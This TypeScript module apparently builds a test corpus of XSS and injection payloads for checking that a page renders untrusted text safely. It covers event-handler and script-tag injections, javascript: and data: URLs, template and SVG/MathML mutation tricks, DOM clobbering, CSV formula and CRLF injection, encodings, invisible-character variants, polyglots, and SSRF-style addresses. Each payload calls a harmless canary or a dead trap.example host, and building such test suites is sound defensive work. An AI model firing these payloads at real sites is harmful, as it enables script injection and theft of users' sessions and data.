// Texts that would run a script, or fetch something, if a page took them for more than text. They are made, family by
// family: each calls the page's `canary` with a number of its own, so that a call says which of them ran.

/** Texts are told apart by their number; it stands in each where `N` does here. */
type Make = (number: number) => string;

/** Where a payload would fetch something from: nothing ever answers there. */
export const TRAP = 'https://trap.example';

/** A text in place of what people should read. */
export interface Payload {
  readonly family: string;
  readonly text: string;
}

const product = <One, Other>(ones: readonly One[], others: readonly Other[]): [One, Other][] =>
  ones.flatMap((one) => others.map((other): [One, Other] => [one, other]));

/** Ways to call the canary. */
const CALLS: readonly Make[] = [
  (n) => `canary(${n})`,
  (n) => `window['can'+'ary'](${n})`,
  (n) => `top.canary\`${n}\``,
  (n) => `self[atob('Y2FuYXJ5')](${n})`,
  (n) => `Function('canary(${n})')()`,
];
const call = (n: number): string => (CALLS[n % CALLS.length] ?? String)(n);

/** Elements that fire an event by themselves, with that event. */
const FIRING = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=/', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['p contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['dialog open', 'onfocusin'],
] as const;

/** Ways to write the attribute, of which browsers forgive most. */
const QUOTED: readonly ((name: string, code: string) => string)[] = [
  (name, code) => `${name}="${code}"`,
  (name, code) => `${name}='${code}'`,
  (name, code) => `${name.toUpperCase()} = ${code}`,
  (name, code) => `/${name}\n=\n"${code}"`,
  (name, code) => `\t${name}\f="${code}" data-injected`,
];

const events: readonly Make[] = product(FIRING, QUOTED).map(
  ([[tag, event], quoted]) =>
    (n) =>
      `<${tag} ${quoted(event, call(n).replaceAll('"', '&quot;'))}>`,
);

const scripts: readonly Make[] = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<SCRIPT>${call(n)}</SCRIPT>`,
  (n) => `<script\n>${call(n)}</script >`,
  (n) => `<script/data-injected>${call(n)}</script>`,
  (n) => `<script type=module>${call(n)}</script>`,
  (n) => `<script nonce="">${call(n)}</script>`,
  (n) => `<script src="data:text/javascript,${call(n)}"></script>`,
  (n) => `<script src=//trap.example/${n}.js></script>`,
  (n) => `<script type="text/javascript" defer>${call(n)}//`,
  (n) => `</script><script>${call(n)}</script>`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><script href="data:,${call(n)}"/></svg>`,
  (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
  (n) => `<?xml version="1.0"?><script>${call(n)}</script>`,
  (n) => `<noscript><p title="</noscript><script>${call(n)}</script>">`,
  (n) => `<iframe srcdoc="&lt;script>parent.canary(${n})&lt;/script>"></iframe>`,
  (n) => `<object data="data:text/html,<script>${call(n)}</script>"></object>`,
  (n) => `<embed src="data:text/html;base64,PHNjcmlwdD4=" code="${call(n)}">`,
  (n) => `<template shadowrootmode=open><script>${call(n)}</script></template>`,
];

const links: readonly Make[] = [
  (n) => `<a href="javascript:${call(n)}" data-injected>Open</a>`,
  (n) => `<a href="java\tscript:${call(n)}">Open</a>`,
  (n) => `<a href="&#x6A;avascript:${call(n)}">Open</a>`,
  (n) => `<form action="javascript:${call(n)}"><button>Go</button></form>`,
  (n) => `<button form=x formaction="javascript:${call(n)}">Go</button><form id=x>`,
  (n) => `<base href="${TRAP}/${n}/">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${TRAP}/${n}">`,
  (n) => `<link rel="stylesheet" href="${TRAP}/${n}.css">`,
  (n) => `<link rel="preload" as="script" href="${TRAP}/${n}.js">`,
  (n) => `<img src="${TRAP}/${n}.png">`,
  (n) => `<img srcset="${TRAP}/${n}.png 2x">`,
  (n) => `<iframe src="${TRAP}/${n}"></iframe>`,
  (n) => `<table background="${TRAP}/${n}.png">`,
  (n) => `<video poster="${TRAP}/${n}.png">`,
  (n) => `<style>@import "${TRAP}/${n}.css";</style>`,
  (n) => `<p style="background:url(${TRAP}/${n}.png)">`,
  (n) => `[Open](javascript:${call(n)})`,
  (n) => `![x](x "onerror=${call(n)}")`,
];

/** What ends whatever a text may have been written into, and then goes on as markup. */
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '"/>',
  '-->',
  '--!>',
  '*/',
  ']]>',
  '?>',
  '%>',
  '</p>',
  '</b></bdi>',
  '</title>',
  '</textarea>',
  '</style>',
  '</template>',
  '</select>',
  '</svg>',
  '</math>',
  '\\";',
  "\\');",
  '}}',
] as const;
const AFTER_BREAK: readonly Make[] = [
  (n) => `<img src=x onerror="${call(n)}">`,
  (n) => ` onmouseover="${call(n)}" onfocus="${call(n)}" autofocus x="`,
  (n) => `;${call(n)};//`,
];
const breaking: readonly Make[] = product(BREAKS, AFTER_BREAK).map(
  ([mark, rest]) =>
    (n) =>
      mark + rest(n),
);

/** What template engines, and the kit's own, would take for more than text. */
const templates: readonly Make[] = [
  (n) => `{{constructor.constructor('${call(n).replaceAll("'", '"')}')()}}`,
  (n) => `{{$on.constructor('canary(${n})')()}}`,
  (n) => `{{=${call(n)}}}`,
  (n) => `{{{${call(n)}}}}`,
  (n) => `\${${call(n)}}`,
  (n) => `#{${call(n)}}`,
  (n) => `*{${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `{% ${call(n)} %}`,
  (n) => `[[${call(n)}]]`,
  (n) => `[(${call(n)})]`,
  (n) => `@(${call(n)})`,
  (n) => `<div v-html="'<img src=x onerror=canary(${n})>'">`,
  (n) => `<div x-data x-init="${call(n)}">`,
  (n) => `<div ng-app ng-init="$eval.constructor('canary(${n})')()">`,
  (n) => `<p .innerHTML=\${'<img src=x onerror=canary(${n})>'}>`,
  (n) => `<button @click=\${() => ${call(n)}}>`,
  (n) => `<!--?lit$012345678$--><img src=x onerror=canary(${n})>`,
  (n) => `<?lit$012345678$><script>${call(n)}</script>`,
  (n) => `<div attr$lit$="lit$012345678$${n}" onclick="${call(n)}">`,
  (n) => `\${unsafeHTML('<img src=x onerror=canary(${n})>')}`,
  (n) => `{name} {count} {item} canary(${n})`,
  (n) => `$& $1 $' canary(${n})`,
  (n) => `%s %d %o canary(${n})`,
];

/** Foreign content, in which the rules of parsing change. */
const foreign: readonly Make[] = [
  (n) => `<svg><a href="javascript:${call(n)}"><text y=9>Open</text></a></svg>`,
  (n) =>
    `<svg><a><animate attributeName=href values="javascript:${call(n)}"/><text y=9>Open</text></a></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='canary(${n})'/>#x"></svg>`,
  (n) => `<svg><use xlink:href="${TRAP}/${n}.svg#x"></svg>`,
  (n) => `<svg><image href="${TRAP}/${n}.svg"/></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror="${call(n)}"></foreignObject></svg>`,
  (n) => `<svg><desc><img src=x onerror="${call(n)}"></desc></svg>`,
  (n) => `<svg><style><img src="</style><img src=x onerror=canary(${n})>"></style></svg>`,
  (n) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call(n)}</handler></svg>`,
  (n) => `<svg><filter><feImage href="${TRAP}/${n}.svg"/></filter></svg>`,
  (n) => `<svg><p><style><a id="</style><img src=x onerror=canary(${n})>">`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${call(n)}">`,
  (n) => `<math><mi//xlink:href="data:x,<script>${call(n)}</script>">`,
  (n) => `<math href="javascript:${call(n)}">Open</math>`,
  (n) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${call(n)}">Open</maction></math>`,
  (n) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${call(n)}"></annotation-xml></math>`,
  (n) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary(${n}) src>">`,
];

/** Names that stand in the way of the document's own. */
const clobbering: readonly Make[] = [
  (n) => `<form id=document name=body data-injected><input name=children value=${n}></form>`,
  (n) => `<img name=getElementById data-injected alt=${n}>`,
  (n) => `<a id=trustedTypes href="data:,${n}" data-injected></a>`,
  (n) => `<iframe name=customElements srcdoc="${n}" data-injected></iframe>`,
  (n) => `__proto__[canary]=${n}`,
  (n) => `constructor.prototype.canary=${n}`,
];

/** Other forms of texts that are read by people: calendars, sheets, terminals. */
const elsewhere: readonly Make[] = [
  (n) => `x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:${TRAP}/${n}\r\nEND:VALARM`,
  (n) => `=HYPERLINK("${TRAP}/${n}")`,
  (n) => `+cmd|'/C calc'!A${n}`,
  (n) => `\u001b]8;;${TRAP}/${n}\u0007Open\u001b]8;;\u0007`,
  (n) => `x\r\nSet-Cookie: canary=${n}`,
  (n) => `');${call(n)};('`,
  (n) => `expression(canary(${n}))`,
  (n) => `url(javascript:canary(${n}))`,
];

/** Short ones, which others are written in another way. */
const PLAIN: readonly Make[] = [
  (n) => `<img src=x onerror=canary(${n})>`,
  (n) => `<svg onload=canary(${n})>`,
  (n) => `"><script>canary(${n})</script>`,
  (n) => `javascript:canary(${n})`,
  (n) => `' autofocus onfocus=canary(${n}) x='`,
  (n) => `</bdi><img src=x onerror=canary(${n}) data-injected>`,
];

const each = (text: string, write: (code: number, sign: string) => string): string =>
  [...text].map((sign) => write(sign.codePointAt(0) ?? 0, sign)).join('');
const isSign = (sign: string): boolean => /[^\w ]/.test(sign);

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => each(text, (code, sign) => (isSign(sign) ? `&#${code};` : sign)),
  (text) => each(text, (code) => `&#x${code.toString(16)};`),
  (text) => each(text, (code, sign) => (isSign(sign) ? `&#0000${code}` : sign)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => each(text, (code) => `\\x${code.toString(16).padStart(2, '0')}`),
  (text) => each(text, (code, sign) => (isSign(sign) ? `\\${code.toString(8)}` : sign)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => `data:text/html;base64,${btoa(text)}`,
  // As an encoding that takes several bytes for it, read as another.
  (text) => text.replaceAll('<', '\u00c0\u00bc').replaceAll('>', '\u00c0\u00be'),
];
const encoded: readonly Make[] = product(PLAIN, ENCODINGS).map(
  ([plain, encode]) =>
    (n) =>
      `${encode(plain(n))}`,
);

/** Signs that are not seen, or turn what is around them. */
const UNSEEN: readonly ((text: string) => string)[] = [
  (text) => `\u202e${text}\u202c`,
  (text) => `\u202d${[...text].toReversed().join('')}\u202c`,
  (text) => `\u2066${text}\u2069`,
  (text) => `\u2067${text}`,
  (text) => `\u2068${text}\u2069\u2069\u2069`,
  (text) => `\u200f${text}\u061c`,
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('<', '<\u00ad'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('=', '\u0000='),
  (text) => `\ufeff${text}`,
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll(' ', '\u00a0'),
  (text) => text.replaceAll(' ', '\u3000'),
  (text) => text.replaceAll(' ', '\u2028'),
  (text) => text.replaceAll('s', '\u017f'),
  (text) => text.normalize('NFD').replaceAll('e', 'e\u0301'),
];
const unseen: readonly Make[] = product(PLAIN, UNSEEN).map(
  ([plain, hide]) =>
    (n) =>
      hide(plain(n)),
);

const polyglots: readonly Make[] = product(
  ['jaVasCript:/*', '/*--></title></style>', '\'"`-->', '%0A*/;'],
  ['</textarea></script>', "*/(/* */oNcliCk=x )//'", '\\x3csVg/<sVg/', '"/+/onmouseover=1/+/[*/[]/+'],
).map(
  ([head, middle]) =>
    (n) =>
      `${head}${middle}<svg/onload='+/"/+canary(${n})//'><img src=x onerror=canary(${n})>//`,
);

const FAMILIES: Readonly<Record<string, readonly Make[]>> = {
  'event handlers': events,
  'script elements': scripts,
  'links and fetches': links,
  'broken attributes': breaking,
  'template syntax': templates,
  'SVG and MathML': foreign,
  'names of the document': clobbering,
  'other formats': elsewhere,
  encoded,
  'unseen and turned': unseen,
  polyglots,
};

/** Every payload for a text; no two are the same. */
export const SCRIPTS: readonly Payload[] = Object.entries(FAMILIES)
  .flatMap(([family, makes]) => makes.map((make) => ({ family, make })))
  .map(({ family, make }, number) => ({ family, text: make(number) }));

/** An address in place of one of the API's. */
export interface UrlPayload extends Payload {
  /** Whether the contract lets it into a page: https, or http on this machine, and no credentials. */
  readonly allowed: boolean;
}

type MakeUrl = (number: number) => string;

/** Ways to write a scheme so that it is still the same, or looks the same, to a browser. */
const WRITTEN: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => [...scheme].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join(''),
  (scheme) => ` ${scheme}`,
  (scheme) => `\u0001\u001f${scheme}`,
  (scheme) => `\n\t${scheme}`,
  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 1)}\r\n${scheme.slice(1)}`,
  (scheme) => `${scheme.slice(0, 2)}\u0000${scheme.slice(2)}`,
  (scheme) => `\u00a0${scheme}`,
  (scheme) => `\ufeff${scheme}`,
  (scheme) => `${scheme.slice(0, 2)}\u200b${scheme.slice(2)}`,
  (scheme) => scheme.replace(':', '\uff1a'),
  (scheme) => scheme.replace(':', '&colon;'),
  (scheme) => scheme.replace(':', '%3a'),
];

const REFUSED: Readonly<Record<string, readonly MakeUrl[]>> = {
  'javascript:': product(WRITTEN, ['canary(N)', '//x%0Acanary(N)', '"<img src=x onerror=canary(N)>"']).map(
    ([write, code]) =>
      (n) =>
        `${write('javascript:')}${code.replace('N', String(n))}`,
  ),
  'vbscript:': WRITTEN.slice(0, 8).map((write) => (n) => `${write('vbscript:')}canary(${n})`),
  'data:': product(WRITTEN.slice(0, 8), [
    'text/html,<script>parent.canary(N)</script>',
    'image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary(N)"/>',
    'text/javascript,canary(N)',
  ]).map(
    ([write, rest]) =>
      (n) =>
        `${write('data:')}${rest.replace('N', String(n))}`,
  ),
  'blob: and other schemes': [
    'blob:https://trap.example/N',
    'blob:null/N',
    'filesystem:https://trap.example/N',
    'file:///etc/N',
    'ftp://trap.example/N',
    'ws://trap.example/N',
    'wss://trap.example/N',
    'about:blank#N',
    'about:srcdoc?N',
    'chrome://settings/N',
    'view-source:https://trap.example/N',
    'mailto:trap@trap.example?subject=N',
    'tel:+N',
    'intent://trap.example/N#Intent;scheme=https;end',
    'jar:https://trap.example/N!/',
    'feed:https://trap.example/N',
    'x:N',
  ].map((text) => (n) => text.replace('N', String(n))),
  'http:': [
    'http://trap.example/N',
    'HTTP://TRAP.EXAMPLE/N',
    'http:\\\\trap.example\\N',
    'http:trap.example/N',
    'http://localhost.trap.example/N',
    'http://127.0.0.1.trap.example/N',
    'http://127.0.0.1@trap.example/N',
    'http://trap.example:443/N',
    'http://[::2]/N',
    'http://0.0.0.0/N',
    'http://169.254.169.254/N',
    'http://10.0.0.1/N',
  ].map((text) => (n) => text.replace('N', String(n))),
  credentials: [
    'https://user@trap.example/N',
    'https://user:secret@trap.example/N',
    'https://:secret@trap.example/N',
    'https://shop.example@trap.example/N',
    'https://shop.example%2f@trap.example/N',
    'https://shop.example:443@trap.example/N',
    'https://%75@trap.example/N',
    'http://user@localhost/N',
    'https:\\\\user@trap.example/N',
    'https://a@b@trap.example/N',
  ].map((text) => (n) => text.replace('N', String(n))),
  'without an origin': [
    '//trap.example/N',
    '///trap.example/N',
    '\\\\trap.example\\N',
    '/\\trap.example/N',
    '/N',
    './N',
    '../N',
    'N',
    '?N',
    '#N',
    '',
    ' ',
    'https:',
    'https://',
    'https:///',
    'https://?N',
    'https://#N',
    'https://:443/N',
    'trap.example/N',
    ':N',
    '%68ttps://trap.example/N',
  ].map((text) => (n) => text.replace('N', String(n))),
  'no host': [
    'https://trap.example:99999/N',
    'https://trap.example:-1/N',
    'https://trap.example:port/N',
    'https://[::1/N',
    'https://[gggg::1]/N',
    'https://trap<example/N',
    'https://trap%00example/N',
    'https://trap|example/N',
    'https://256.256.256.256/N',
    'https://1.2.3.4.5/N',
    'https://0x100000000/N',
    'https://shop\u2024example.trap.example/N',
    'https://\u{e0001}/N',
    'https://trap.example:443:443/N',
    'https://[::1]a/N',
    'https://tr^ap.example/N',
  ].map((text) => (n) => text.replace('N', String(n))),
};

/** Addresses that a page may hold, however odd they look. */
const ALLOWED: Readonly<Record<string, readonly MakeUrl[]>> = {
  'other origins': [
    'https://trap.example/N',
    'https://trap.example./N',
    'https://sub.shop.example/N',
    'https://shop.example.trap.example/N',
    'https://trap.example:8443/N',
    'https://trap.example:0/N',
    'https://trap.example:443/N',
    'https://127.0.0.1:1/N',
    'https://2130706433/N',
    'https://0x7f.1/N',
    'http://localhost:1/N',
    'http://127.0.0.1:1/N',
    'http://[::1]:1/N',
    'http://2130706433:1/N',
    'http://0x7f.0.0.1:1/N',
    'http://LOCALHOST:1/N',
  ].map((text) => (n) => text.replace('N', String(n))),
  'written in an odd way': [
    'HTTPS://TRAP.EXAMPLE/N',
    'hTtPs://trap.example/N',
    ' https://trap.example/N ',
    '\n\thttps://trap.example/N\n',
    'ht\ttps://trap.example/N',
    'https://trap.ex\nample/N',
    'https:trap.example/N',
    'https:/trap.example/N',
    'https:////trap.example/N',
    'https:\\\\trap.example\\N',
    'https:/\\/trap.example/N',
    'https://trap.example\\@shop.example/N',
    'https://trap%2Eexample/N',
    'https://trap\u3002example/N',
    'https://\uff54rap.example/N',
    'https://trap.example/\u0000N',
    'https://trap.example/<script>canary(N)</script>',
    'https://trap.example/"onerror="canary(N)',
    'https://trap.example/?q=javascript:canary(N)',
    'https://trap.example/#javascript:canary(N)',
    'https://trap.example/%0d%0aSet-Cookie:N',
    'https://trap.example/../../N',
    'https://trap.example/\u202egnp.N\u202c',
  ].map((text) => (n) => text.replace('N', String(n))),
  'names that look alike': [
    'https://\u0455hop.example/N',
    'https://sh\u043ep.example/N',
    'https://xn--hop-lke.example/N',
    'https://shop.ex\u0251mple/N',
    'https://\u{1d42c}hop.example/N',
    'https://faß.example/N',
    'https://\u5546\u5e97.example/N',
  ].map((text) => (n) => text.replace('N', String(n))),
  long: [
    (n) => `https://trap.example/${'a'.repeat(5_000)}?${n}`,
    (n) => `https://${'a'.repeat(60)}.${'b'.repeat(60)}.example/${n}`,
    (n) => `https://trap.example/${'%41'.repeat(800)}/${n}`,
  ],
};

const made = (families: Readonly<Record<string, readonly MakeUrl[]>>, allowed: boolean) =>
  Object.entries(families).flatMap(([family, makes]) => makes.map((make) => ({ family, make, allowed })));

/** Every payload for an address. */
export const URLS: readonly UrlPayload[] = [...made(REFUSED, false), ...made(ALLOWED, true)].map(
  ({ family, make, allowed }, number) => ({ family, allowed, text: make(number) }),
);
